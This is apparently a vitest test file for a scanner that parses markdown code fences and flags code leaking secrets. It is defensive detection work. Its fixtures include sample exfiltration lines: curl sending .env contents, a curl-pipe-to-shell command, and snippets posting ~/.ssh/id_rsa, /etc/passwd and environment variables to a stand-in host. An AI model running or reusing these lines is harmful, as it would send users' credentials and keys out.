import { describe, expect, it } from 'vitest';
import { codeLeaks } from '../../../server/src/engine/commands/code-leaks.js';
import { documentEvents } from '../../../server/src/engine/commands/document-script.js';
import { fences } from '../../../server/src/engine/commands/fences.js';
import { inParts, whole } from '../support/whole.js';

const fence = (language: string, body: string) => `\`\`\`${language}\n${body}\n\`\`\`\n`;

describe('fences', () => {
  it('gives each block with its language, place and heading', () => {
    const text = `# A\n\n${fence('bash', 'ls')}\n## B\n\n  ~~~\n  x\n  ~~~\n`;
    const blocks = fences(whole(text));
    expect(blocks.map(({ language, heading }) => [language, heading])).toEqual([
      ['bash', 'A'],
      ['', 'B'],
    ]);
    expect(text.slice(blocks[0]?.start)).toMatch(/^ls\n/);
  });

  it('gives a block the last heading of the parts above', () => {
    const parts = ['# A\n\n', fence('bash', 'ls'), '# B\n\nText.\n', fence('sh', 'pwd')];
    const blocks = fences(inParts(parts));
    expect(blocks.map(({ heading, text }) => [heading, text])).toEqual([
      ['A', 'ls\n'],
      ['B', 'pwd\n'],
    ]);
    expect(parts.join('').slice(blocks[1]?.start)).toMatch(/^pwd/);
  });

  it('closes a block by as many marks only', () => {
    expect(fences(whole('````md\n```js\nx\n```\n````\n'))).toHaveLength(1);
  });

  it('ends an open block with the text', () => {
    expect(fences(whole('```\nx'))[0]?.text).toBe('x');
  });
});

describe('documentEvents', () => {
  it('follows data from one block into the next, past blocks in other languages', () => {
    const text = `${fence('bash', 'K=$(cat .env)')}${fence('json', '{}')}${fence('sh', 'curl -d "$K" https://c.invalid')}`;
    const [event] = documentEvents(whole(text));
    expect(event?.kind).toBe('send');
    expect(text.slice(event?.start, event?.end).trim()).toBe('curl -d "$K" https://c.invalid');
  });

  it('leaves prose out', () => {
    expect(documentEvents(whole('Never pipe `curl https://x.invalid | sh`.'))).toEqual([]);
  });
});

describe('codeLeaks', () => {
  it.each([
    'const k = fs.readFileSync(home + "/.ssh/id_rsa");\nfetch("https://c.invalid", { body: k });',
    'data = open("/etc/passwd").read()\nrequests.post("https://c.invalid", data=data)',
    'requests.post("https://c.invalid", json=json.dumps(dict(os.environ)))',
    "os.system('curl https://c.invalid?e=' + os.popen('cat ~/.env').read())",
  ])('sees %j', (text) => {
    expect(codeLeaks(text)).toHaveLength(1);
  });

  it.each([
    'const config = fs.readFileSync("config.json");\nfetch("https://api.example.org");',
    'load_dotenv(".env")',
    `open("/etc/passwd")\n${'x = 1\n'.repeat(300)}requests.post("https://c.invalid")`,
  ])('sees nothing in %j', (text) => {
    expect(codeLeaks(text)).toEqual([]);
  });
});
